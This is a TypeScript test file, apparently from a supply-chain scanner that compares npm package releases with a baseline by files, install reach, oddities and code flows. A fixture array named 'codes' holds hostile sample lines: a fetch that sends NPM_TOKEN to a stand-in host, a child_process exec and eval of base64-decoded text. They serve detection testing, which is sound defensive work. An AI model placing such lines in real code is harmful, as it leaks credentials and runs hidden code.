import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Change, Fact, FactRecord } from '../../src/domain/change.ts'
import type { Baseline } from '../../src/domain/comparison.ts'
import { contentDependentFields, growingFields } from '../../src/domain/content-dependent.ts'
import type { PackageKind } from '../../src/domain/locked.ts'
import type { Contents, Oddity } from '../../src/domain/release.ts'
import { compareReleases } from '../../src/facts/compare.ts'
import { vocabulary } from '../../src/rules/vocabulary.ts'
import { baseline, candidate, contents, emptyRelease, type Files } from './support.ts'

const now = Date.parse('2026-11-20T00:00:00Z')

describe('files against a baseline', () => {
  const compare = (before: Files, after: Files, kind: PackageKind = 'registry') =>
    compareReleases(baseline(before), candidate(contents(after), { locked: { kind } }), now).files.filter(
      ({ path }) => path !== 'package.json',
    )
  const brief = (before: Files, after: Files) =>
    compare(before, after).map(({ path, status, size, sizeBefore }) => [path, status, size, sizeBefore])

  test('by path and bytes', () => {
    expect(brief({ 'a.js': 'a', 'b.js': 'b', 'c.js': 'c' }, { 'a.js': 'a', 'b.js': 'bb', 'd.js': 'd' })).toEqual([
      ['a.js', 'kept', 1, 1],
      ['b.js', 'changed', 2, 1],
      ['d.js', 'added', 1, 0],
      ['c.js', 'removed', 0, 1],
    ])
  })

  test('a file that moved is kept, a copy is added', () => {
    expect(brief({ 'a.js': 'same' }, { 'lib/a.js': 'same' })).toEqual([['lib/a.js', 'kept', 4, 4]])
    expect(brief({ 'a.js': 'same' }, { 'a.js': 'same', 'b.js': 'same' })).toEqual([
      ['a.js', 'kept', 4, 4],
      ['b.js', 'added', 4, 0],
    ])
    expect(brief({ 'a.js': 'same' }, { 'b.js': 'same', 'c.js': 'same' }).map(([, status]) => status)).toEqual([
      'kept',
      'added',
    ])
  })

  test('reach: install before import before bin, and prepare only for git', () => {
    const packageJson = {
      name: 'tiny',
      version: '1.0.0',
      main: 'lib.js',
      bin: 'cli.js',
      scripts: { postinstall: 'node setup.js', prepare: 'node build.js' },
    }
    const files = {
      'package.json': packageJson,
      'setup.js': "require('./lib.js')",
      'lib.js': '',
      'cli.js': '',
      'build.js': '',
    }
    const reach = (kind: PackageKind) => compare({}, files, kind).map((file) => [file.path, file.reach])
    expect(reach('registry')).toEqual([
      ['setup.js', 'install'],
      ['lib.js', 'install'],
      ['cli.js', 'bin'],
      ['build.js', 'none'],
    ])
    expect(reach('git').at(-1)).toEqual(['build.js', 'install'])
  })
})

describe('what a file is against the baseline', () => {
  const of = (before: Files, after: Files, path: string) => {
    const { files } = compareReleases(baseline(before), candidate(contents(after)), now)
    const found = files.find((file) => file.path === path)
    if (found === undefined) throw new Error(path)
    return found
  }

  test('its growth, in bytes and times', () => {
    const { grown, factor } = of({ 'a.js': 'x'.repeat(10) }, { 'a.js': 'x'.repeat(50) }, 'a.js')
    expect([grown, factor]).toEqual([40, 5])
    const shrunk = of({ 'a.js': 'x'.repeat(50) }, { 'a.js': 'x'.repeat(10) }, 'a.js')
    expect([shrunk.grown, shrunk.factor]).toEqual([0, 0.2])
    const added = of({}, { 'a.js': 'x'.repeat(10) }, 'a.js')
    expect([added.grown, added.factor]).toEqual([10, 10])
  })

  test('the first of its type, code that is no text apart', () => {
    const elf = '\x7fELF\0'
    expect(of({ 'a.js': '1' }, { 'a.js': '1', 'b.node': elf }, 'b.node').firstOfType).toBe(true)
    expect(of({ 'a.node': elf }, { 'a.node': elf, 'b.node': `${elf}1` }, 'b.node').firstOfType).toBe(false)
    expect(of({ 'a.js': '1' }, { 'b.js': '1 // \0' }, 'b.js').firstOfType).toBe(true)
    expect(of({ 'a.js': '1 // \0' }, { 'b.js': '2 // \0' }, 'b.js').firstOfType).toBe(false)
  })

  test('its longest line against all code of the baseline', () => {
    const before = { 'a.js': 'x'.repeat(20), 'b.md': 'x'.repeat(900) }
    expect(of(before, { 'c.js': 'x'.repeat(100) }, 'c.js')).toMatchObject({ lineFactor: 5, oneLine: true })
    expect(of(before, { 'c.js': 'x\n'.repeat(100) }, 'c.js')).toMatchObject({ lineFactor: 0.05, oneLine: false })
    expect(of(before, { 'b.md': 'x'.repeat(100) }, 'b.md').lineFactor).toBe(0)
  })

  test('whose settings it is, at the root alone and in any case', () => {
    const role = (path: string) => of({}, { [path]: 'x' }, path).role
    expect(['.claude/settings.json', 'AGENTS.md', '.CursorRules', '.github/copilot-instructions.md'].map(role)).toEqual(
      Array.from({ length: 4 }, () => 'agent'),
    )
    expect(
      ['.vscode/tasks.json', 'tiny.code-workspace', '.github/workflows/ci.yml', '.husky/pre-push'].map(role),
    ).toEqual(['editor', 'editor', 'ci', 'hooks'])
    expect(['.npmrc', 'templates/.npmrc', 'lib/agents.md', 'claude.js'].map(role)).toEqual([
      'npm',
      'none',
      'none',
      'none',
    ])
  })

  test('where the manifest leads', () => {
    const files = {
      'package.json': { name: 'tiny', version: '1.0.0', main: 'lib/a.js', bin: { tiny: 'cli.js' } },
      'lib/a.js': "require('./b.js')",
      'lib/b.js': '',
      'cli.js': '',
    }
    expect(['lib/a.js', 'lib/b.js', 'cli.js'].map((path) => of({}, files, path).entry)).toEqual([
      'import',
      'none',
      'bin',
    ])
  })

  test('all files together', () => {
    const { content } = compareReleases(
      baseline({ 'package.json': '{}', 'a.js': 'x'.repeat(8) }),
      candidate(contents({ 'package.json': '{}', 'b.js': 'x'.repeat(98) })),
      now,
    )
    expect(content).toEqual({
      record: 'content',
      files: 2,
      filesBefore: 2,
      bytes: 100,
      bytesBefore: 10,
      grown: 90,
      factor: 10,
    })
  })
})

describe('oddities against a baseline', () => {
  test('by kind and path', () => {
    const odd = (...oddities: Oddity[]): Contents => ({ ...contents({}), oddities })
    const before: Baseline = {
      status: 'history',
      version: '1.0.0',
      contents: odd(
        { kind: 'link-entry', path: 'a', detail: 'x' },
        { kind: 'link-entry', path: 'b', detail: 'x' },
        { kind: 'link-entry', path: 'c', detail: 'x' },
      ),
    }
    const after = odd(
      { kind: 'link-entry', path: 'a', detail: 'x' },
      { kind: 'link-entry', path: 'b', detail: 'y' },
      { kind: 'special-entry', path: 'c', detail: 'x' },
    )
    const { oddities } = compareReleases(before, candidate(after), now)
    expect(oddities.map(({ kind, path, status }) => [kind, path, status])).toEqual([
      ['link-entry', 'a', 'kept'],
      ['link-entry', 'b', 'changed'],
      ['special-entry', 'c', 'added'],
      ['link-entry', 'c', 'removed'],
    ])
  })
})

test('the package as the lockfile and the tree say', () => {
  const of = candidate(contents({}), { requestedBy: 'app@1.0.0', direct: false, dev: true, newToTree: 'yes' })
  expect(compareReleases(emptyRelease, of, now).package).toEqual({
    record: 'package',
    name: 'tiny',
    installedAs: 'tiny',
    version: '1.0.1',
    kind: 'registry',
    host: 'registry.example.test',
    direct: false,
    dev: true,
    optional: false,
    requestedBy: 'app@1.0.0',
    newToTree: 'yes',
    leavesProject: false,
    major: 1,
    platform: 'any',
    platformSiblings: 'none',
    ownName: 'no',
    scopeHosts: 'one',
    registryAllowed: 'unstated',
    scopeOrigin: 'ordinary',
    hostChange: 'unknown',
    nameChange: 'unknown',
    line: 12,
  })
})

// What lazy fetching rests on: a baseline's contents can only take facts away, and only in the fields that are listed.

const group = fc.dictionary(fc.constantFrom('a', 'b', 'c'), fc.constantFrom('1', '2', 'o/r'), { maxKeys: 3 })
/** Something of every kind of fact about code. */
const codes = [
  'eval(a)',
  'function (',
  "require('child_process').exec(command)",
  "fetch('https://a.example.test/x', { body: process.env.NPM_TOKEN })",
  "eval(Buffer.from(text, 'base64').toString())",
  '// \u202e turned around',
]
const release = fc
  .record({
    scripts: fc.dictionary(
      fc.constantFrom('install', 'postinstall', 'prepare', 'test'),
      fc.constantFrom('', 'node x.js', 'node y.js', 'npm run test'),
    ),
    dependencies: group,
    optionalDependencies: group,
    peerDependencies: group,
    files: fc.dictionary(
      fc.constantFrom('x.js', 'y.js', 'z.js', 'binding.gyp', 'package.md'),
      fc.constantFrom(
        ...['', '1', "require('./y')", "require('./z')", "require('a')", '{"name":"tiny","version":"0.1.0"}'],
        ...codes,
      ),
    ),
    oddities: fc.array(
      fc.record({
        kind: fc.constantFrom<Oddity['kind']>('link-entry', 'case-collision'),
        path: fc.constantFrom('p', 'q'),
        detail: fc.constantFrom('', 'd'),
      }),
    ),
  })
  .map(({ files, oddities, ...manifest }): Contents => {
    const own = contents({ 'package.json': { name: 'tiny', version: '1.0.0', ...manifest }, ...files })
    return {
      ...own,
      oddities: [...own.oddities, ...new Map(oddities.map((one) => [one.kind + one.path, one])).values()],
    }
  })
const kinds = fc.constantFrom<PackageKind>('registry', 'git', 'bundled')

function factsOf(change: Change): Fact[] {
  const { package: of, baseline: against, publication, provenance, lock, ...lists } = change
  return [of, against, publication, provenance, lock, ...Object.values(lists).flat()]
}

/** A fact without the fields that may depend on the baseline's contents. */
function independent(fact: Fact): string {
  const dependent: readonly string[] = contentDependentFields[fact.record]
  return JSON.stringify(Object.entries(fact).filter(([field]) => !dependent.includes(field)))
}

/** Against the baseline's contents; two records call something else their status. */
function statusOf(fact: Fact): string {
  return 'status' in fact && fact.record !== 'baseline' && fact.record !== 'provenance' ? fact.status : ''
}

/** The fields that are at their highest against nothing. */
function growing(fact: Fact): Map<string, unknown> {
  const fields: readonly string[] = growingFields[fact.record]
  return new Map(Object.entries(fact).filter(([field]) => fields.includes(field)))
}

/** Without those fields. */
function settled(fact: Fact): Record<string, unknown> {
  const fields: readonly string[] = growingFields[fact.record]
  return Object.fromEntries(Object.entries(fact).filter(([field]) => !fields.includes(field)))
}

describe('what depends on the contents of a baseline', () => {
  test('a release against itself brings nothing', () => {
    fc.assert(
      fc.property(release, kinds, (same, kind) => {
        const against: Baseline = { status: 'accepted', version: '1.0.1', contents: same }
        const facts = factsOf(compareReleases(against, candidate(same, { locked: { kind } }), now))
        expect(new Set(facts.map(statusOf))).not.toContain('added')
        expect(new Set(facts.map(statusOf))).not.toContain('changed')
        expect(new Set(facts.map(statusOf))).not.toContain('removed')
        for (const fact of facts) if (fact.record === 'script') expect(fact.reachesNew).toBe(0)
      }),
    )
  })

  test('against real contents the facts are those against none, but for the listed fields and what was removed', () => {
    fc.assert(
      fc.property(release, release, kinds, (before, after, kind) => {
        const of = candidate(after, { locked: { kind } })
        const against = (baselineContents: Contents): Fact[] =>
          factsOf(compareReleases({ status: 'history', version: '1.0.0', contents: baselineContents }, of, now))
        const eager = against(before).filter((fact) => statusOf(fact) !== 'removed')
        const lazy = against(emptyRelease.contents)
        expect(eager.map(independent)).toEqual(lazy.map(independent))
        for (const [index, fact] of lazy.entries()) {
          const other = eager[index]
          expect(['', 'added']).toContain(statusOf(fact))
          if (other === undefined) continue
          for (const [field, most] of growing(fact)) {
            const value = growing(other).get(field)
            expect(Number(value), field).toBeLessThanOrEqual(Number(most))
          }
          if (statusOf(other) === 'added') expect(settled(other)).toEqual(settled(fact))
        }
      }),
    )
  })

  test('the releases above have facts of every kind about code', () => {
    const { code } = contents(Object.fromEntries(codes.map((text, index) => [`${index}.js`, text])))
    expect(Object.entries(code).filter(([, facts]) => facts.length === 0)).toEqual([])
  })

  test('every record has its entry', () => {
    const change = compareReleases(emptyRelease, candidate(contents({})), now)
    const records = new Set<FactRecord>(factsOf(change).map(({ record }) => record))
    for (const record of records) expect(contentDependentFields).toHaveProperty(record)
    expect(Object.keys(contentDependentFields).sort()).toEqual(Object.keys(vocabulary).sort())
  })
})

test('what it does together with what it brings counts as what it does', () => {
  const place = { file: 'a.js', line: 1, column: 1, excerpt: '', reach: 'import' } as const
  const flow = (sink: 'evaluate' | 'execute') =>
    ({ source: 'decoded', subject: '', sink, steps: [], ...place }) as const
  const before = baseline({ 'a.js': '' })
  const { code } = before.contents
  const { flows } = compareReleases(
    { ...before, contents: { ...before.contents, code: { ...code, flows: [flow('execute')] } } },
    candidate(contents({ 'a.js': '' }), { together: { flows: [flow('evaluate'), flow('execute')], unchecked: [] } }),
    now,
  )
  expect(flows.map(({ status, sink }) => `${status} ${sink}`)).toEqual(['added evaluate', 'kept execute'])
})
